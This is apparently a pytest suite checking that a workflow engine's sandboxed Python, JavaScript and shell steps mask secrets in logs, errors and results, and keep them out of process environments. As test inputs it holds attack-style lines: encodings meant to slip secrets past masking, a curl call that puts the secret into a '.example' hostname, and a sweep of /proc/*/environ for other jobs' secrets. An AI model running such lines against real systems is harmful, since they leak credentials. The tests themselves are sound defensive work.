"""Secrets in the code of steps: how they get there, and that what code prints and gives doesn't show them."""

import os
import re
from pathlib import Path
from typing import Any

import pytest

from flows.contracts import StepResult
from flows.values import Json, StepStatus
from steps.code import CodeStep, JavaScriptStep, PythonStep, ShellStep
from steps.masking import SHOWN, Mask
from steps.sandbox.executor import CodeExecutor
from steps.sandbox.pool import Sandboxes
from tests.sandbox.conftest import user_processes
from tests.sandbox.test_executor import Call

VALUE = "hunter2&s3cret/+=?~Zürich"
MASK = Mask({"token": [VALUE]})
KINDS: dict[str, Any] = {"python": PythonStep, "javascript": JavaScriptStep, "shell": ShellStep}

TEN_DISGUISES = {
    "python": """
import base64, html, json, textwrap, urllib.parse
value = secrets.token
print("1", value)
print("2", base64.b64encode(value.encode()).decode())
print("3", base64.urlsafe_b64encode(b"user:" + value.encode()).decode())
print("4", urllib.parse.quote(value, safe=""), urllib.parse.quote_plus(value))
print("5", value.encode().hex(), value.encode().hex().upper())
print("6", json.dumps({"token": value}), json.dumps(json.dumps(value)))
print("7", html.escape(value), repr(value.encode()))
print("8", value[::-1])
print("9", "\\n".join(textwrap.wrap(value, 6)))
print("10", end=" ", flush=True)
for part in (value[:5], value[5:9], value[9:]):
    print(part, end="", flush=True)
print()
return {"value": value, "list": [{value: 1}, base64.b64encode(value.encode()).decode()], "whole": dict(a=secrets["token"])}
""",
    "javascript": """
const value: string = secrets.token;
const bytes = new TextEncoder().encode(value);
const hex = Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join("");
const encoded = btoa(String.fromCharCode(...bytes));
console.log("1", value);
console.log("2", encoded);
console.log("3", btoa("user:" + String.fromCharCode(...bytes)).replaceAll("+", "-").replaceAll("/", "_"));
console.log("4", encodeURIComponent(value), encodeURI(value));
console.log("5", hex, hex.toUpperCase());
console.log("6", JSON.stringify({ token: value }), JSON.stringify(JSON.stringify(value)));
console.log("7", { value });
console.log("8", Array.from(value).reverse().join(""));
console.log("9", value.match(/.{1,6}/gsu)!.join("\\n"));
console.error("10", value.slice(0, 9) + value.slice(9));
return { value, list: [{ [value]: 1 }, encoded], whole: { a: secrets["token"] } };
""",
    "shell": """
value=$(cat "$SECRETS/token")
echo "1 $value"
echo "2 $(printf %s "$value" | base64 -w 0)"
echo "3 $(printf 'user:%s' "$value" | base64 -w 20)"
echo "4 $(printf %s "$value" | jq -sRr @uri)"
echo "5 $(printf %s "$value" | od -An -v -tx1 | tr -d ' \\n')"
echo "6 $(printf %s "$value" | jq -sR .)"
echo "7 $(printf %s "$value" | jq -sRr @html)"
echo "8 $(printf %s "$value" | jq -sRr 'explode | reverse | implode')"
echo "9"; printf %s "$value" | fold -w 6; echo
printf '10 %s' "${value:0:9}" >&2; printf '%s\\n' "${value:9}" >&2
jq -n --arg value "$value" '{value: $value, list: [{($value): 1}], whole: {a: $value}}' > "$RESULT"
""",
}


def step(language: str, code: str, **more: Any) -> CodeStep:
    made = KINDS[language].model_validate({"id": "step", language: code, "secrets": ["token"], **more})
    assert isinstance(made, CodeStep)
    return made


class Log(Call):
    """A call that keeps the lines of its log."""

    def __init__(self) -> None:
        super().__init__(secrets={"token": VALUE}, mask=MASK)
        self.lines: list[tuple[str, str]] = []

    async def log(self, stream: Any, line: str) -> None:
        self.lines.append((stream, line))


def of_process(pid: int) -> list[bytes]:
    return [Path(f"/proc/{pid}/{name}").read_bytes() for name in ("environ", "cmdline")]


@pytest.fixture
def executor(sandboxes: Sandboxes) -> CodeExecutor:
    return CodeExecutor(sandboxes)


def masked(result: StepResult) -> Json:
    return MASK.json(result.result)


def left_of(text: str) -> list[str]:
    """The parts of the value that are left, of four characters or more, in this order or the other."""
    forms = (VALUE, VALUE[::-1], VALUE.encode().hex())
    return [form[at : at + 5] for form in forms for at in range(len(form) - 4) if form[at : at + 5] in text]


@pytest.mark.every_runner
@pytest.mark.attack(
    "code prints the secret it was given in ten disguises: base64, URL-encoded, hex, reversed, split over lines, …",
    "each is masked in the log, and in the result as it is recorded",
    group="Secrets",
)
@pytest.mark.parametrize("language", KINDS)
async def test_a_secret_in_ten_disguises_is_masked(executor: CodeExecutor, language: str) -> None:
    call = Log()
    result = await executor.execute(step(language, TEN_DISGUISES[language]), call)
    assert result.status is StepStatus.SUCCEEDED, result
    said = "\n".join(line for _stream, line in call.lines)
    assert {int(found) for found in re.findall(r"^(\d+)\b", said, re.MULTILINE)} == set(range(1, 11)), said
    for text in (said, result.stdout, result.stderr):
        assert left_of(text) == [], text
    for line in said.splitlines():
        assert SHOWN in line or line == "9", said
    recorded = masked(result)
    assert recorded["value"] == SHOWN
    assert SHOWN in recorded["list"][0]
    assert left_of(repr(recorded)) == []


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "def check(key):\n    raise ValueError(f'{key} is wrong')\ncheck(secrets.token)"),
        ("python", "import sys\nsys.exit(secrets.token)"),
        ("javascript", "throw new Error(`${secrets.token} is wrong`)"),
        ("javascript", "throw { token: secrets.token }"),
        ("shell", 'echo "$(cat $SECRETS/token) is wrong" >&2\nexit 3'),
        ("shell", 'set -x\ncurl -sS "http://$(cat $SECRETS/token).example/"'),
    ],
)
async def test_a_secret_in_an_error_is_masked(executor: CodeExecutor, language: str, code: str) -> None:
    call = Log()
    result = await executor.execute(step(language, code), call)
    assert result.status is not StepStatus.SUCCEEDED
    assert result.error is not None
    error = MASK.cut(f"{result.error.message} {result.error.traceback}")
    assert SHOWN in error or SHOWN in result.stderr
    assert left_of(error + repr(call.lines) + result.stderr) == []


async def test_a_shells_output_as_its_result_is_masked(executor: CodeExecutor) -> None:
    result = await executor.execute(step("shell", 'echo "it is $(cat "$SECRETS/token")"'), Log())
    assert result.result == f"it is {SHOWN}"


async def test_a_secret_on_both_streams_and_in_two_writes_is_masked(executor: CodeExecutor) -> None:
    code = """
import sys, time
half = len(secrets.token) // 2
for part in (secrets.token[:half], secrets.token[half:]):
    for stream in (sys.stdout, sys.stderr):
        stream.write(part)
        stream.flush()
    time.sleep(0.2)
print("\\n" + secrets.token[:half])
time.sleep(0.2)
print(secrets.token[half:])
"""
    call = Log()
    await executor.execute(step("python", code), call)
    assert left_of("\n".join(line for stream, line in call.lines if stream == "stdout")) == []
    assert left_of("\n".join(line for stream, line in call.lines if stream == "stderr")) == []


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "return [repr(secrets), list(secrets), len(secrets), 'token' in secrets, dir(secrets)]"),
        ("javascript", "return [JSON.stringify(secrets) ?? null, 'token' in secrets, Object.keys(secrets).length]"),
        ("shell", 'ls "$SECRETS" > list; stat -c %a "$SECRETS" "$SECRETS/token" >> list; jq -sR . list > "$RESULT"'),
    ],
)
async def test_what_holds_the_secrets_does_not_show_them(executor: CodeExecutor, language: str, code: str) -> None:
    result = await executor.execute(step(language, code), Call(secrets={"token": VALUE}))
    shown: dict[str, Json] = {
        "python": ["<secrets: token>", ["token"], 1, True, ["token"]],
        "javascript": ["{}", True, 0],
        "shell": "token\n700\n400\n",
    }
    assert result.result == shown[language], result


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "return secrets.other"),
        ("python", "return secrets['other']"),
        ("javascript", "return secrets.other"),
    ],
)
async def test_a_secret_that_was_not_given_is_an_error_with_the_fix(
    executor: CodeExecutor, language: str, code: str
) -> None:
    result = await executor.execute(step(language, code), Call(secrets={"token": VALUE}))
    assert result.error is not None
    assert "secrets: [other]" in result.error.message


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "import secrets\nreturn len(secrets.token_hex(4))"),
        ("python", "def main():\n    import copy\n    return len(copy.copy(secrets)) + 7"),
        ("javascript", "const secrets = { n: 8 }; return secrets.n"),
        ("shell", 'echo $((${#SECRETS} > 0 ? 8 : 0)) > "$RESULT"'),
    ],
)
async def test_the_name_is_the_codes_own_to_take(executor: CodeExecutor, language: str, code: str) -> None:
    result = await executor.execute(step(language, code), Call(secrets={"token": VALUE}))
    assert result.result == 8, result


@pytest.mark.every_runner
@pytest.mark.attack(
    "code looks for the secrets of others in its environment, its arguments and the processes of its sandbox",
    "they are not there, and neither are its own: these come with the job alone",
    group="Secrets",
)
@pytest.mark.parametrize("language", ["python", "shell"])
async def test_no_environment_and_no_argument_has_a_secret(executor: CodeExecutor, language: str) -> None:
    look = "cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n' || true"
    code = {
        "python": f"import subprocess\nreturn subprocess.run({look!r}, shell=True, capture_output=True, text=True).stdout",
        "shell": look,
    }
    given = await executor.execute(step(language, code[language]), Call(secrets={"token": VALUE}))
    assert given.status is StepStatus.SUCCEEDED, given
    assert isinstance(given.result, str)
    assert "PATH=" in given.result
    assert VALUE not in given.result
    others = KINDS[language].model_validate({"id": "other", language: code[language]})
    result = await executor.execute(others, Call())
    assert isinstance(result.result, str)
    assert VALUE not in result.result
    assert "SECRETS" not in result.result


async def test_no_process_of_the_host_has_a_secret_in_its_environment(
    executor: CodeExecutor, sandboxes: Sandboxes
) -> None:
    sandboxes.warm()
    code = "import time\nopen('/tmp/there', 'w').close()\nprint('here', flush=True)\ntime.sleep(1)\nreturn len(secrets.token)"
    seen: list[bytes] = []

    class Looking(Log):
        async def log(self, stream: Any, line: str) -> None:
            for pid in (*user_processes(sandboxes), os.getpid()):
                seen.extend(of_process(pid))

    result = await executor.execute(step("python", code), Looking())
    assert result.result == len(VALUE)
    assert seen
    assert not [one for one in seen if VALUE.encode() in one]
